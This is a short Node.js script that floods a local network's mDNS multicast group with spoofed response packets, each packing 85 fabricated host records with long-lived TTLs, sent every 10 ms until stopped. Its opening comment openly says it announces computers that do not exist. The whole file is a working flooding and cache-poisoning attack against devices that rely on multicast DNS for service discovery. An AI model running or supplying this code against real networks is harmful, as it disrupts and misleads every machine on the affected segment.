// Says on the network, from the address that is given, where computers are that nobody asked for and that do not exist,
// a hundred packets of them a second, until it is ended.

import { createSocket } from 'node:dgram';

const GROUP = '224.0.0.251';
const PORT = 5353;
const A_PACKET = 85;
// An address (1) in the internet (1), good for ever, of four bytes.
const TAIL = Buffer.from([0, 1, 0, 1, 0x7f, 0xff, 0xff, 0xff, 0, 4]);

let count = 0;
function packet() {
  const records = Array.from({ length: A_PACKET }, () => {
    count += 1;
    const name = Buffer.from(count.toString(36));
    return [Buffer.from([name.length]), name, Buffer.from([0]), TAIL, Buffer.from([10, 99, count >> 8, count])];
  });
  return Buffer.concat([Buffer.from([0, 0, 0x84, 0, 0, 0, 0, A_PACKET, 0, 0, 0, 0]), ...records.flat()]);
}

const socket = createSocket('udp4');
socket.bind(0, process.argv[2], () => {
  socket.setMulticastInterface(process.argv[2]);
  socket.setMulticastTTL(255);
  setInterval(() => socket.send(packet(), PORT, GROUP), 10);
});
